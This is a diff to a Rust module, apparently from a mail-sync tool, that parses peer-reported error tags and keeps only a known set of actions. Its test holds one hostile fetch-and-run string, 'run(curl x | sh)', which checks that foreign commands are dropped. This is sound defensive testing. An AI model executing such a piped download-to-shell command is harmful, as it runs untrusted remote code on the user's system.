@@ -111,6 +111,162 @@ impl fmt::Display for Tags {
     }
 }
 
+impl Tags {
+    /// Reads the text after `TAGS: ` as a peer printed it. Only known
+    /// actions survive: a `run(...)` that is not one of smd's own (`mv -n`,
+    /// `rm`, the inverse command) is dropped, so nothing a peer wrote can
+    /// become a command here. Returns `None` for stats lines and garbage.
+    pub fn parse(text: &str) -> Option<Tags> {
+        let text = text.trim();
+        let context = group(text, "error::context(")?;
+        let cause = group(text, "probable-cause(")?;
+        let human = group(text, "human-intervention(")? == "necessary";
+        let mut tags = Tags::new(leak_known(&context), leak_known(&cause), human);
+        if let Some(at) = text.find("suggested-actions(") {
+            tags.actions = parse_actions(&text[at + "suggested-actions(".len()..]);
+        }
+        Some(tags)
+    }
+}
+
+/// The text of `name(...)` in `text`, up to the first unescaped `)`.
+fn group(text: &str, name: &str) -> Option<String> {
+    let start = text.find(name)? + name.len();
+    let mut value = String::new();
+    let mut chars = text[start..].chars();
+    while let Some(c) = chars.next() {
+        match c {
+            '\\' => value.push(chars.next()?),
+            ')' => return Some(value),
+            other => value.push(other),
+        }
+    }
+    None
+}
+
+fn parse_actions(mut text: &str) -> Vec<Action> {
+    let mut actions = Vec::new();
+    loop {
+        text = text.trim_start();
+        if let Some(rest) = text.strip_prefix("retry") {
+            actions.push(Action::Retry);
+            text = rest;
+        } else if let Some(rest) = text.strip_prefix("display-mail(") {
+            let (paths, rest) = quoted_paths(rest);
+            actions.extend(paths.into_iter().next().map(Action::DisplayMail));
+            text = rest;
+        } else if let Some(rest) = text.strip_prefix("display-permissions(") {
+            let (paths, rest) = quoted_paths(rest);
+            actions.extend(paths.into_iter().next().map(Action::DisplayPermissions));
+            text = rest;
+        } else if let Some(rest) = text.strip_prefix("run(mv -n ") {
+            let (paths, rest) = quoted_paths(rest);
+            if let [from, to] = &paths[..] {
+                actions.push(Action::MoveAside {
+                    from: from.clone(),
+                    to: to.clone(),
+                });
+            }
+            text = rest;
+        } else if let Some(rest) = text.strip_prefix("run(rm ") {
+            let (paths, rest) = quoted_paths(rest);
+            actions.extend(paths.into_iter().next().map(Action::Remove));
+            text = rest;
+        } else if let Some(rest) = text.strip_prefix("run(") {
+            // The inverse command (after substitution or not), or text we
+            // do not act on: skip to the closing parenthesis.
+            let end = rest.find(')').map_or(rest.len(), |at| at + 1);
+            let inner = &rest[..end.saturating_sub(1)];
+            if inner.contains("@@INVERSECOMMAND@@") || inner.starts_with("smd-pu") {
+                actions.push(Action::InverseCommand);
+            }
+            text = &rest[end..];
+        } else {
+            return actions;
+        }
+    }
+}
+
+/// Reads `"path" "path")` and returns the paths and the text after `)`.
+fn quoted_paths(text: &str) -> (Vec<PathBuf>, &str) {
+    let mut paths = Vec::new();
+    let mut chars = text.char_indices().peekable();
+    let mut current: Option<String> = None;
+    while let Some((at, c)) = chars.next() {
+        match (&mut current, c) {
+            (None, '"') => current = Some(String::new()),
+            (None, ')') => return (paths, &text[at + 1..]),
+            (None, _) => {}
+            (Some(path), '\\') => {
+                if let Some((_, escaped)) = chars.next() {
+                    path.push(escaped);
+                }
+            }
+            (Some(_), '"') => {
+                paths.push(PathBuf::from(current.take().unwrap_or_default()))
+            }
+            (Some(path), other) => path.push(other),
+        }
+    }
+    (paths, "")
+}
+
+/// Contexts and causes are a known vocabulary; anything else from a peer
+/// becomes `unknown` instead of growing the set.
+fn leak_known(word: &str) -> &'static str {
+    const KNOWN: &[&str] = &[
+        "network",
+        "db-mismatch",
+        "protocol-mismatch",
+        "concurrent-mailbox-edit",
+        "bad-directory-permission",
+        "simultaneous-mailbox-edit",
+        "modify-while-update",
+        "directory-disappeared",
+        "non-regular-file",
+        "non-writeable-file",
+        "wrong-permissions",
+        "bad-permissions",
+        "bad-translator",
+        "another-instance-is-running",
+        "translator-not-found",
+        "mailbox-has--absolute-path",
+        "mass-deletion",
+        "protocol-error",
+        "unsafe-name",
+        "unknown",
+        "handshake",
+        "mail-addition",
+        "copy-message",
+        "move-message",
+        "copy-body",
+        "header-replacement",
+        "replace",
+        "delete-message",
+        "receive",
+        "receive-header",
+        "receive-delta",
+        "transmit",
+        "mddiff",
+        "mkdir",
+        "xdelta",
+        "rename",
+        "translate",
+        "workarea",
+        "locking",
+        "ssh",
+        "delete-guard",
+        "sha_file",
+        "main",
+        "protocol",
+    ];
+    KNOWN
+        .iter()
+        .find(|known| **known == word)
+        .copied()
+        .unwrap_or("unknown")
+}
+
 /// Counters a client reports at the end of a run.
 #[derive(Debug, Clone, Default, PartialEq, Eq)]
 pub struct Stats {
@@ -163,6 +319,30 @@ mod tests {
         );
         assert!(!tags.is_retriable());
         assert!(Tags::retry("receive", "network").is_retriable());
+    }
+
+    #[test]
+    fn parses_what_it_renders_and_drops_foreign_commands() {
+        let tags = Tags::new("delete-message", "concurrent-mailbox-edit", true)
+            .with(Action::DisplayMail("/h/Mail/cur/a \"q\")".into()))
+            .with(Action::Remove("/h/Mail/cur/a".into()))
+            .with(Action::InverseCommand);
+        assert_eq!(Tags::parse(&tags.to_string()), Some(tags));
+
+        let hostile = "error::context(copy-message) probable-cause(evil) \
+            human-intervention(necessary) suggested-actions(run(curl x | sh) retry)";
+        let parsed = Tags::parse(hostile).unwrap();
+        assert_eq!(parsed.cause, "unknown");
+        assert_eq!(parsed.actions, vec![Action::Retry]);
+
+        assert_eq!(Tags::parse("stats::new-mails(1)"), None);
+        let substituted =
+            "error::context(copy-message) probable-cause(concurrent-mailbox-edit) \
+            human-intervention(necessary) suggested-actions(run(smd-push default))";
+        assert_eq!(
+            Tags::parse(substituted).unwrap().actions,
+            vec![Action::InverseCommand]
+        );
     }
 
     #[test]
